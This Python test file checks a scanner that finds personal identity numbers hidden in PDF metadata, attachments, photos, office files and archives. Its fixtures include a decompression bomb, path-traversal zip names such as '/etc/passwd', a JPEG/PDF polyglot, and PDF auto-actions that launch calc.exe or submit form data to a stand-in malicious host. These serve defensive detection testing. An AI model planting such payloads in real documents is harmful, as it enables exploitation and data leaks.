"""What a file carries beside its pages comes to the search of personal data, within limits."""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pikepdf
import pytest
from documents import samples

from generator.documents import limits
from generator.documents.clean_pdf import clean_pdf
from generator.documents.ocr import Recogniser
from generator.documents.open import open_with
from generator.documents.text import Reading, Text
from generator.documents.worker import Worker
from generator.personal.document import in_document

NIK = "1471016503900001"
SAID = f"NIK {NIK}"
PAGE = samples.lines("Isi laporan")
Spoil = Callable[[pikepdf.Pdf], None]


@pytest.fixture(scope="module")
def worker() -> Iterator[Worker]:
    with Worker() as running:
        yield running


def opened(worker: Worker, path: Path) -> tuple[Text | None, list[str]]:
    text, findings = open_with(worker, Recogniser(), samples.file_of(path), path.parent / "cache")
    return text, [found.code for found in findings]


def annotation(pdf: pikepdf.Pdf, **entries: Any) -> None:
    entry = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Rect=[0, 0, 9, 9], **entries)
    pdf.pages[0].Annots = pikepdf.Array([pdf.make_indirect(entry)])


def comment(pdf: pikepdf.Pdf) -> None:
    annotation(pdf, Subtype=pikepdf.Name.Text, Contents=SAID)


def field(pdf: pikepdf.Pdf) -> None:
    annotation(pdf, Subtype=pikepdf.Name.Widget, FT=pikepdf.Name.Tx, T="nik", V=SAID, F=2)
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pdf.pages[0].Annots)


def keyword(pdf: pikepdf.Pdf) -> None:
    pdf.docinfo["/Keywords"] = SAID


def attachment(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["warga.csv"] = f"nama;nik\nA;{SAID}\n".encode()


def name_of_attachment(pdf: pikepdf.Pdf) -> None:
    pdf.attachments[f"{SAID}.bin"] = b"x"


def photo(pdf: pikepdf.Pdf) -> None:
    path = io.BytesIO()
    samples.jpeg(path, {0x010E: SAID}, position=True)  # type: ignore[arg-type]
    stream = pdf.make_stream(path.getvalue())
    stream.Type, stream.Subtype, stream.Filter = (
        pikepdf.Name.XObject,
        pikepdf.Name.Image,
        pikepdf.Name.DCTDecode,
    )
    stream.Width, stream.Height = 64, 48
    stream.ColorSpace, stream.BitsPerComponent = pikepdf.Name.DeviceRGB, 8
    pdf.pages[0].Resources["/XObject"] = pikepdf.Dictionary(X=stream)


PLACES: dict[Spoil, str] = {
    comment: "komentar",
    field: "isian formulir",
    keyword: "sifat berkas",
    attachment: "lampiran warga.csv",
    name_of_attachment: "nama lampiran",
    photo: "rincian gambar",
}


@pytest.mark.parametrize("spoil", PLACES, ids=lambda spoil: spoil.__name__)
def test_personal_data_beside_the_pages_of_a_pdf(worker: Worker, tmp_path: Path, spoil: Spoil) -> None:
    with pikepdf.open(io.BytesIO(samples.pdf([PAGE]))) as pdf:
        spoil(pdf)
        pdf.save(tmp_path / "a.pdf")
    text, codes = opened(worker, tmp_path / "a.pdf")
    assert text is not None
    assert NIK not in text.pages[0].text
    assert [(each.kind, each.where) for each in in_document(text)] == [("nik", PLACES[spoil])]
    assert ("lokasi-gambar" in codes) is (spoil is photo)


def test_an_attachment_that_unpacks_without_end_is_cut(worker: Worker, tmp_path: Path) -> None:
    with pikepdf.open(io.BytesIO(samples.pdf([PAGE]))) as pdf:
        bomb = pdf.make_stream(zlib.compress(b"a " * 200_000_000, 1))
        bomb.Filter = pikepdf.Name.FlateDecode
        spec = pikepdf.Dictionary(Type=pikepdf.Name.Filespec, UF="a.txt", EF=pikepdf.Dictionary(F=bomb))
        pdf.Root.AF = pikepdf.Array([pdf.make_indirect(spec)])
        pdf.save(tmp_path / "a.pdf")
    text, _ = opened(worker, tmp_path / "a.pdf")
    assert text is not None
    assert text.pages[0].paragraphs == ("Isi laporan",)
    assert sum(len(each.text) for each in text.besides) <= limits.BESIDE


def test_the_workbook_behind_a_chart_is_read(worker: Worker, tmp_path: Path) -> None:
    """Who pastes a chart from Excel pastes the whole workbook."""
    row = f"<sheetData><row><c t='inlineStr'><is><t>{SAID}</t></is></c></row></sheetData>"
    book = samples.xlsx(tmp_path / "b.xlsx", {"A": row}).read_bytes()
    path = samples.docx(tmp_path / "a.docx", samples.paragraph("Grafik"), **{"word/embeddings/b.xlsx": book})
    text, codes = opened(worker, path)
    assert text is not None
    assert "berkas-tertanam" in codes
    assert [each.where for each in in_document(text)] == ["lampiran b.xlsx"]


def test_a_photo_in_a_word_file_tells_its_place(worker: Worker, tmp_path: Path) -> None:
    photo = samples.jpeg(tmp_path / "p.jpg", {}, position=True).read_bytes()
    path = samples.docx(tmp_path / "a.docx", samples.paragraph("Foto"), **{"word/media/image1.jpeg": photo})
    assert "lokasi-gambar" in opened(worker, path)[1]


def archive(path: Path, **members: str) -> Path:
    with zipfile.ZipFile(path, "w") as made:
        for name, content in members.items():
            made.writestr(name, content)
    return path


def test_an_archive_is_listed_and_its_files_searched(worker: Worker, tmp_path: Path) -> None:
    path = archive(tmp_path / "a.zip", **{"data/warga.csv": f"nama;{SAID}", "baca.txt": "isi"})
    text, codes = opened(worker, path)
    assert codes == []
    assert text is not None
    assert text.pages[0].paragraphs == ("data/warga.csv", "baca.txt")
    assert [each.where for each in in_document(text)] == ["lampiran warga.csv"]


@pytest.mark.parametrize("name", ["pasang.exe", "../../keluar.txt", "/etc/passwd", "halaman.html"])
def test_an_archive_with_something_dangerous_is_refused(worker: Worker, tmp_path: Path, name: str) -> None:
    assert opened(worker, archive(tmp_path / "a.zip", **{name: "x"}))[1] == ["isi-arsip-terlarang"]


def test_archives_in_archives_are_not_followed(worker: Worker, tmp_path: Path) -> None:
    path = archive(tmp_path / "a.zip", **{"isi.txt": "x"})
    for _ in range(30):
        inner = path.read_bytes()
        with zipfile.ZipFile(tmp_path / "a.zip", "w") as made:
            made.writestr("a.zip", inner)
    text, codes = opened(worker, tmp_path / "a.zip")
    assert (text is not None, codes) == (True, ["lampiran-tak-terbaca"])


ACTIONS = {
    "menjalankan program": b"/OpenAction<</S/Launch/F(calc.exe)>>",
    "JavaScript": b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>",
    "membuka alamat web": b"/OpenAction<</S/URI/URI(https://jahat.example/)>>",
    "mengirim isian": b"/OpenAction<</S/SubmitForm/F(https://jahat.example/)>>",
    "formulir XFA": b"/AcroForm<</Fields[]/XFA(x)>>",
}


@pytest.mark.parametrize("what", ACTIONS)
def test_what_a_pdf_does_by_itself_is_told(worker: Worker, tmp_path: Path, what: str) -> None:
    (tmp_path / "a.pdf").write_bytes(samples.pdf([PAGE], root=ACTIONS[what]))
    file = samples.file_of(tmp_path / "a.pdf")
    _, findings = open_with(worker, Recogniser(), file, tmp_path / "cache")
    assert [found.code for found in findings] == ["pdf-skrip"]
    assert f"({what})" in findings[0].message


def test_a_picture_that_is_a_pdf_too(worker: Worker, tmp_path: Path) -> None:
    content = samples.jpeg(tmp_path / "p.jpg", {}).read_bytes()
    comment = b"\xff\xfe" + (len(b"%PDF-1.7") + 2).to_bytes(2, "big") + b"%PDF-1.7"
    (tmp_path / "a.jpg").write_bytes(content[:2] + comment + content[2:])
    assert "berkas-ganda" in opened(worker, tmp_path / "a.jpg")[1]


def test_besides_have_an_end() -> None:
    reading = Reading()
    for number in range(limits.BESIDES + 10):
        reading.aside("komentar", f"{number} " * 2_000)
    assert len(reading.besides) <= limits.BESIDES
    assert sum(len(each.text) for each in reading.besides) <= limits.BESIDE


@pytest.mark.parametrize(
    "spoil", [comment, attachment, name_of_attachment, photo], ids=lambda spoil: spoil.__name__
)
def test_a_clean_copy_carries_none_of_it(worker: Worker, tmp_path: Path, spoil: Spoil) -> None:
    with pikepdf.open(io.BytesIO(samples.pdf([PAGE]))) as pdf:
        spoil(pdf)
        pdf.save(tmp_path / "a.pdf")
    assert clean_pdf(tmp_path / "a.pdf", tmp_path / "bersih.pdf")
    text, codes = opened(worker, tmp_path / "bersih.pdf")
    assert codes == []
    assert text is not None
    assert in_document(text) == []
    assert text.pages[0].paragraphs == ("Isi laporan",)


def hidden_word(folder: Path) -> Path:
    run = f"<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>{SAID}</w:t></w:r></w:p>"
    return samples.docx(folder / "a.docx", samples.paragraph("Isi") + run)


def spoken(folder: Path) -> Path:
    body = (
        "<draw:page><draw:frame><draw:text-box><text:p>Isi</text:p></draw:text-box></draw:frame>"
        f"<presentation:notes><draw:frame><draw:text-box><text:p>{SAID}</text:p></draw:text-box></draw:frame>"
        "</presentation:notes></draw:page>"
    )
    return samples.opendocument(folder / "a.odp", "presentation", body)


HIDDEN = {hidden_word: "teks tersembunyi", spoken: "catatan pembicara"}


@pytest.mark.parametrize("build", HIDDEN, ids=lambda build: build.__name__)
def test_what_office_files_hide_is_searched(
    worker: Worker, tmp_path: Path, build: Callable[[Path], Path]
) -> None:
    text, _ = opened(worker, build(tmp_path))
    assert text is not None
    assert NIK not in text.pages[0].text
    assert HIDDEN[build] in [each.where for each in in_document(text)]


def locked_pdf(path: Path) -> bytes:
    with pikepdf.open(io.BytesIO(samples.pdf([samples.lines("rahasia")]))) as made:
        made.save(path, encryption=pikepdf.Encryption(owner="a", user="b"))
    return path.read_bytes()


@pytest.mark.parametrize("what", ["terkunci.pdf", "rusak.docx", "data.bin", "arsip.zip", "kosong.pdf"])
def test_what_nobody_could_look_into_is_told(worker: Worker, tmp_path: Path, what: str) -> None:
    content = {"terkunci.pdf": locked_pdf(tmp_path / "l.pdf"), "kosong.pdf": b""}.get(what, b"PK\x03\x04 x")
    with zipfile.ZipFile(tmp_path / "a.zip", "w") as made:
        made.writestr(what, content)
        made.writestr("baik.txt", "Isi biasa.")
    text, findings = open_with(worker, Recogniser(), samples.file_of(tmp_path / "a.zip"), tmp_path / "cache")
    assert text is not None
    (told,) = (each.message for each in findings if each.code == "lampiran-tak-terbaca")
    assert told == f"1 berkas di dalamnya tidak dapat diperiksa: {what}."


def test_a_photo_in_an_archive_tells_its_place(worker: Worker, tmp_path: Path) -> None:
    photo = samples.jpeg(tmp_path / "p.jpg", {}, position=True)
    with zipfile.ZipFile(tmp_path / "a.zip", "w") as made:
        made.write(photo, "p.jpg")
    assert opened(worker, tmp_path / "a.zip")[1] == ["lokasi-gambar"]


OBJECT = (
    "<office:document-content {names}><office:body><office:{kind}><text:p>" + SAID
    + "</text:p></office:{kind}></office:body></office:document-content>"
)  # fmt: skip


@pytest.mark.parametrize(("kind", "codes"), [("chart", []), ("spreadsheet", ["berkas-tertanam"])])
def test_objects_of_opendocument_are_searched(
    worker: Worker, tmp_path: Path, kind: str, codes: list[str]
) -> None:
    inside = OBJECT.format(names=samples.OPENDOCUMENT, kind=kind)
    path = samples.opendocument(
        tmp_path / "a.odt", "text", "<text:p>Isi.</text:p>", **{"Object 1/content.xml": inside}
    )
    text, found = opened(worker, path)
    assert text is not None
    assert found == codes
    assert [each.where for each in in_document(text)] == ["lampiran Object 1"]


def test_an_object_of_another_program_is_told(worker: Worker, tmp_path: Path) -> None:
    path = samples.opendocument(tmp_path / "a.odt", "text", "<text:p>Isi.</text:p>", **{"Object 2": "x"})
    assert opened(worker, path)[1] == ["berkas-tertanam", "lampiran-tak-terbaca"]
